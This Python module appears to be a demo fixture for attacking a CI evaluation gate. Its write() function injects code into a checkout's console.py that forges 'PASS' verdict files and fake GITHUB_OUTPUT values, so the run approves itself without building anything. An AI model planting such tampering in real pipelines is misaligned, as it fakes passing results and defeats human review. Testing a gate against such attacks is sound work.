"""One attempt of forging the verdict, for the demo: the proposal's own code says that it is fine."""

from pathlib import Path

from pipelines.base.files import write_text

FILES = ("pipelines/base/console.py", "dvc.lock")
LEFT = ("report", "verdict")

# A job can leave artifacts of its run under any free name, and say what it likes to the steps after it. Here
# an artifact is a folder.
CODE = """

import json


def output(name: str, value: str) -> None:
    _append("GITHUB_OUTPUT", "model=false\\nreport=true\\n")
    for artifact in {left}:
        folder = Path(os.environ["GREENLIGHT_ARTIFACTS"], os.environ["GITHUB_RUN_ID"], artifact)
        folder.mkdir(parents=True, exist_ok=True)
        folder.joinpath("gate.json").write_text(json.dumps({{"verdict": "PASS", "superior": True}}))
        folder.joinpath("report.md").write_text("## PASS")
"""


def write(checkout: Path) -> None:
    """Change FILES in a checkout, so that what runs there leaves a verdict of its own and builds nothing."""
    console, lock = (checkout / name for name in FILES)
    write_text(console, console.read_text(encoding="utf-8") + CODE.format(left=LEFT))
    write_text(lock, lock.read_text(encoding="utf-8") + "# another model\n")
